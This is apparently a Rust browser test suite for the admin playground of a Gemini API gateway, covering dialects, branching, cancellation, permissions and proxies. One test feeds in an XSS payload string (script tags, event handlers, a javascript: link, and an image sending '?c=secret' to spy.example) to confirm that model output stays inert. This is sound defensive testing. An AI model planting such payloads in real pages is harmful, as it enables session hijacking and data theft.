use fake_gemini::{FakeGemini, Fault, KeyPlan, Script};
use serde_json::json;
use testkit::{Gateway, Passage, eventually, key};
use thirtyfour::prelude::*;

use crate::browser::Browser;
use crate::house::{setup, small};

/// A good key alone, which does what is planned.
async fn house(plan: KeyPlan) -> (FakeGemini, Gateway) {
    let google = FakeGemini::start(Script::new().key(key("good"), plan)).await.unwrap();
    let gateway = setup().google(&google).keys([key("good")]).start().await;
    (google, gateway)
}

async fn say(browser: &Browser, text: &str) {
    browser.fill("#message", text).await;
    browser.click("#send").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn each_dialect_is_answered_beside_what_went_over_the_wire() {
    let (_google, gateway) = house(KeyPlan::Valid).await;
    let Some(browser) = Browser::signed_in(&gateway).await else { return };
    browser.go("/admin").await;
    browser.find("body").await.send_keys("gp").await.unwrap();
    browser.until_path("/admin/play").await;
    for (dialect, path) in [
        ("chat", "POST /v1/chat/completions"),
        ("responses", "POST /v1/responses"),
        ("messages", "POST /v1/messages"),
        ("gemini", "POST /v1beta/models/"),
    ] {
        browser.go(&format!("/admin/play?dialect={dialect}")).await;
        say(&browser, "tell me **something** nice").await;
        browser.until_text("#says", "Done in").await;
        browser.until_text(".gb-turn[data-role=assistant] strong", "something").await;
        browser.until_text("#request-head", path).await;
        browser.until_text("#request-body", "tell me **something** nice").await;
        assert!(browser.text("#request-head").await.contains("••••••••"), "{dialect}");
        browser.until_text("#response-head", "200 OK").await;
        assert!(browser.count("#frames li").await > 1, "{dialect}");
        browser.until_text("[data-fact=attempts]", "1").await;
        browser.until_text("[data-fact=key]", "…").await;
        browser.examine(&format!("an answer in {dialect}")).await;
    }
    let trace = browser.find("[data-testid=why]").await.attr("href").await.unwrap().unwrap();
    eventually("the request is in the log", || async {
        browser.go(&trace).await;
        browser.count("[data-testid=attempt]").await == 1
    })
    .await;
    browser.until_text(".gb-facts", "console (admin)").await;
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_conversation_goes_on_and_its_last_question_is_asked_anew() {
    let (google, gateway) = house(KeyPlan::Valid).await;
    let Some(browser) = Browser::signed_in(&gateway).await else { return };
    browser.go("/admin/play").await;
    let field = browser.find("#message").await;
    field.send_keys("first" + (Key::Control + Key::Enter)).await.unwrap();
    browser.until_count(".gb-turn .gb-prose", 1).await;
    say(&browser, "second").await;
    browser.until_count(".gb-turn .gb-prose", 2).await;
    let asked = || google.received().last().unwrap().body.to_vec();
    let text = String::from_utf8(asked()).unwrap();
    assert!(text.contains("first") && text.contains("second"), "{text}");

    field.send_keys("" + Key::Up).await.unwrap();
    browser.until_count(".gb-turn", 2).await;
    assert_eq!(field.prop("value").await.unwrap().as_deref(), Some("second"));
    browser.fill("#message", "third").await;
    browser.click("#send").await;
    browser.until_count(".gb-turn .gb-prose", 2).await;
    let text = String::from_utf8(asked()).unwrap();
    assert!(text.contains("first") && text.contains("third") && !text.contains("second"), "{text}");
    browser.click("#clear").await;
    browser.until_count(".gb-turn", 0).await;
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn escape_ends_the_call_to_google() {
    let (google, gateway) = house(KeyPlan::Fault(Fault::HangAfterFirstEvent)).await;
    let Some(browser) = Browser::signed_in(&gateway).await else { return };
    browser.go("/admin/play").await;
    say(&browser, "go on for ever").await;
    eventually("Google answers", || async { google.open_streams() == 1 }).await;
    browser.find("#frames li").await;
    browser.examine("while it is answered").await;
    browser.find("#stop").await.send_keys("" + Key::Escape).await.unwrap();
    browser.until_text("#says", "Stopped").await;
    eventually("Google's stream is closed", || async { google.open_streams() == 0 }).await;
    assert_eq!(google.cancelled(), 1);
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_google_refuses_is_told() {
    let (_google, gateway) = house(KeyPlan::Valid).await;
    let Some(browser) = Browser::signed_in(&gateway).await else { return };
    browser.go("/admin/play?dialect=gemini").await;
    browser.fill("#model", "no-such-model").await;
    say(&browser, "hello").await;
    browser.until_text("#wrong", "no-such-model").await;
    browser.until_text("[data-fact=status]", "404").await;
    browser.until_text("#frames", "NOT_FOUND").await;
    browser.examine("a refusal").await;
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_model_writes_runs_nothing() {
    let (_google, gateway) = house(KeyPlan::Valid).await;
    let Some(browser) = Browser::signed_in(&gateway).await else { return };
    for dialect in ["chat", "responses", "messages", "gemini"] {
        browser.go(&format!("/admin/play?dialect={dialect}")).await;
        let payload = "<script>window.hurt=1</script> <img src=x onerror=window.hurt=1> \
             <svg/onload=window.hurt=1> [a](javascript:window.hurt=1) \
             ![b](https://spy.example/?c=secret) <iframe srcdoc='<script>parent.hurt=1</script>'>";
        say(&browser, payload).await;
        browser.until_text("#says", "Done in").await;
        browser.until_count(".gb-prose", 1).await;
        let found = "return document.querySelectorAll('#play :is(script, svg[onload], iframe), \
             .gb-prose [onerror], .gb-prose [href^=javascript], .gb-prose [src*=spy]').length";
        assert_eq!(browser.run(found).await, 0, "{dialect}");
        browser.run("for (const link of document.querySelectorAll('.gb-prose a')) link.target = '_self'").await;
        browser.click(".gb-prose a").await;
        assert!(browser.run("return window.hurt ?? null").await.is_null(), "{dialect}");
    }
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pictures_speech_and_embeddings_are_shown() {
    let (_google, gateway) = house(KeyPlan::Valid).await;
    let Some(browser) = Browser::signed_in(&gateway).await else { return };
    browser.go("/admin/play?tab=image").await;
    browser.fill("#prompt", "a cat").await;
    browser.click("#send").await;
    browser.find("#shown img").await;
    let drawn = "return document.querySelector('#shown img').naturalWidth > 0";
    eventually("it is drawn", || async { browser.run(drawn).await == true }).await;
    assert_eq!(browser.count("#shown a[download]").await, 1);
    browser.examine("a picture").await;

    browser.go("/admin/play?tab=speech").await;
    browser.fill("#input", "good morning").await;
    browser.click("#send").await;
    browser.find("#shown audio").await;
    let plays = "const audio = document.querySelector('#shown audio'); \
         return audio.error === null && audio.duration > 0";
    eventually("it can be played", || async { browser.run(plays).await == true }).await;
    browser.examine("speech").await;

    browser.go("/admin/play?tab=embedding").await;
    browser.fill("#first", "a cat").await;
    browser.fill("#second", "a dog").await;
    browser.click("#send").await;
    browser.until_text("#shown", "Cosine similarity").await;
    browser.until_text("#shown", "3,072").await;
    browser.examine("embeddings").await;
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn every_tab_is_clean_and_a_request_is_shown_before_it_is_sent() {
    let (google, gateway) = house(KeyPlan::Valid).await;
    let Some(browser) = Browser::signed_in(&gateway).await else { return };
    for (width, height) in [(1440, 1000), (390, 844)] {
        browser.resize(width, height).await;
        for tab in ["image", "speech", "embedding", "transcription"] {
            browser.go(&format!("/admin/play?tab={tab}")).await;
            browser.examine(&format!("{tab} {width}")).await;
        }
        browser.go("/admin/play?system=Be+brief").await;
        browser.fill("#message", "hello").await;
        browser.click("#preview").await;
        browser.until_text("#request-body", "Be brief").await;
        browser.examine(&format!("a request before it is sent {width}")).await;
    }
    assert_eq!(google.received().len(), 0);
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn viewers_look_and_do_not_send() {
    let (google, gateway) = small().await;
    let Some(browser) = Browser::open(&gateway).await else { return };
    let made = gateway.run(&["admin", "add", "vic", "--role", "viewer"]).await.ok();
    browser.go("/admin/login?next=/admin/play").await;
    browser.fill("#name", "vic").await;
    browser.fill("#password", made.trim()).await;
    browser.click("form.gb-door-card button").await;
    super::people::choose(&browser).await;
    browser.until_path("/admin/play").await;
    browser.until_count("#send:disabled", 1).await;
    browser.examine("the playground of a viewer").await;
    let status = browser
        .driver
        .execute_async(
            "const done = arguments[0]; fetch('/api/admin/play', { method: 'POST', body: '{}', \
             headers: { 'content-type': 'application/json' } }).then((answer) => done(answer.status))",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(status.json(), &json!(403));
    assert_eq!(google.received().len(), 0);
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_key_that_serves_it_says_where_to_get_one() {
    let gateway = setup().without("API_KEYS").start().await;
    let Some(browser) = Browser::signed_in(&gateway).await else { return };
    browser.go("/admin/play").await;
    browser.find("[data-testid=no-keys]").await;
    assert_eq!(browser.count("#play").await, 0);
    browser.examine("the playground without a key").await;
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn two_models_answer_side_by_side_and_hear_their_own_answers() {
    let (google, gateway) = house(KeyPlan::Valid).await;
    let Some(browser) = Browser::signed_in(&gateway).await else { return };
    browser.go("/admin/play?model=gemini-2.5-flash&second=gemini-2.5-pro").await;
    say(&browser, "which of you").await;
    browser.until_text("#says", "Done in").await;
    browser.until_count(".gb-lane .gb-prose", 2).await;
    browser.until_text(".gb-lane:nth-child(2)", "gemini-2.5-pro").await;
    browser.until_text(".gb-lane:nth-child(2) > p:last-child", "$").await;
    browser.examine("two answers").await;
    browser.until_text("#request-body", "gemini-2.5-flash").await;
    browser.click("#lanes button[value='1']").await;
    browser.until_text("#request-body", "gemini-2.5-pro").await;
    browser.until_text("#response-head", "200 OK").await;
    say(&browser, "and again").await;
    browser.until_count(".gb-lane .gb-prose", 4).await;
    let asked: Vec<String> = google.received().iter().map(|one| one.path.clone()).collect();
    let of = |model: &str| asked.iter().filter(|path| path.contains(model)).count();
    assert_eq!((of("gemini-2.5-flash:"), of("gemini-2.5-pro:")), (2, 2), "{asked:?}");
    for request in google.received().iter().skip(2) {
        let body: serde_json::Value = serde_json::from_slice(&request.body).unwrap();
        assert_eq!(body["contents"].as_array().unwrap().len(), 3, "{body}");
    }
    browser.resize(390, 844).await;
    browser.examine("two answers on a phone").await;
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_conversation_is_branched_off_and_any_question_is_asked_anew() {
    let (google, gateway) = house(KeyPlan::Valid).await;
    let Some(browser) = Browser::signed_in(&gateway).await else { return };
    browser.go("/admin/play").await;
    for (number, text) in ["first", "second"].into_iter().enumerate() {
        say(&browser, text).await;
        browser.until_count(".gb-turn .gb-prose", number + 1).await;
    }
    browser.click(".gb-turn:nth-child(2) [data-turn=branch]").await;
    browser.until_count("#branches button", 2).await;
    browser.until_count(".gb-turn", 2).await;
    browser.examine("a branch").await;
    say(&browser, "otherwise").await;
    browser.until_count(".gb-turn .gb-prose", 2).await;
    let body = String::from_utf8(google.received().last().unwrap().body.to_vec()).unwrap();
    assert!(body.contains("otherwise") && !body.contains("second"), "{body}");

    browser.until_count("#stop[hidden]", 1).await;
    browser.click("#branches button:first-child").await;
    browser.until_text(".gb-turn:nth-child(3)", "second").await;
    browser.click(".gb-turn:nth-child(1) [data-turn=edit]").await;
    browser.until_count(".gb-turn", 0).await;
    let field = browser.find("#message").await;
    assert_eq!(field.prop("value").await.unwrap().as_deref(), Some("first"));
    browser.click("#branches button:last-child").await;
    browser.until_text(".gb-turn:nth-child(3)", "otherwise").await;
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_conversation_is_kept_opened_and_deleted() {
    let (_google, gateway) = house(KeyPlan::Valid).await;
    let Some(browser) = Browser::signed_in(&gateway).await else { return };
    browser.go("/admin/play?dialect=gemini").await;
    browser.until_text("#kept", "None yet").await;
    say(&browser, "tell me **something** nice").await;
    browser.until_text("#says", "Done in").await;
    browser.click("#keep button").await;
    browser.until_text("[data-testid=kept] a", "tell me **something** nice").await;
    let url = browser.driver.current_url().await.unwrap();
    assert!(url.query().unwrap().contains("id="), "{url}");
    browser.examine("a conversation that is kept").await;
    browser.fill("#kept-title", "Of nice things").await;
    browser.click("#keep button").await;
    browser.until_text("[data-testid=kept] a", "Of nice things").await;
    browser.until_count("[data-testid=kept]", 1).await;

    browser.go("/admin/play").await;
    browser.click("[data-testid=kept] a").await;
    browser.until_text(".gb-turn[data-role=assistant] strong", "something").await;
    browser.until_text(".gb-turn[data-role=user]", "tell me **something** nice").await;
    let dialect = "return document.querySelector('[name=dialect]:checked').value";
    assert_eq!(browser.run(dialect).await, "gemini");
    browser.examine("a conversation that is opened").await;
    say(&browser, "and more").await;
    browser.until_count(".gb-turn .gb-prose", 2).await;
    browser.click("[data-testid=kept] button").await;
    browser.until_text("#kept", "None yet").await;
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_goes_through_the_proxy_that_is_chosen_and_is_copied_for_claude_code() {
    let (here, there) = (Passage::http().await, Passage::http().await);
    let addresses = [&here, &there].map(|proxy| format!("http://{}", proxy.address()));
    let google = FakeGemini::start(Script::new().key(key("good"), KeyPlan::Valid)).await.unwrap();
    let setup = setup().google(&google).keys([key("good")]);
    let gateway = setup.with("PROXIES", addresses.join(",")).start().await;
    let Some(browser) = Browser::signed_in(&gateway).await else { return };
    browser.go("/admin/play").await;
    for proxy in [&here, &there] {
        let address = proxy.address();
        let option =
            format!("#proxy option:nth-child({})", if address == here.address() { 2 } else { 3 });
        browser.until_text(&option, &address.to_string()).await;
        browser.click(&option).await;
        browser.click("#clear").await;
        say(&browser, "hello there").await;
        browser.until_text("#says", "Done in").await;
        assert!(!proxy.journal().is_empty(), "{address} was not asked");
    }
    let copied = "window.copied = ''; navigator.clipboard.writeText = async (text) => { window.copied = text; }";
    browser.run(copied).await;
    browser.click("[data-snippet=claude_code]").await;
    eventually("it is copied", || async {
        let text = browser.run("return window.copied").await.as_str().unwrap().to_owned();
        text.contains("ANTHROPIC_BASE_URL") && text.ends_with("claude -p 'hello there'")
    })
    .await;
    browser.close().await;
}
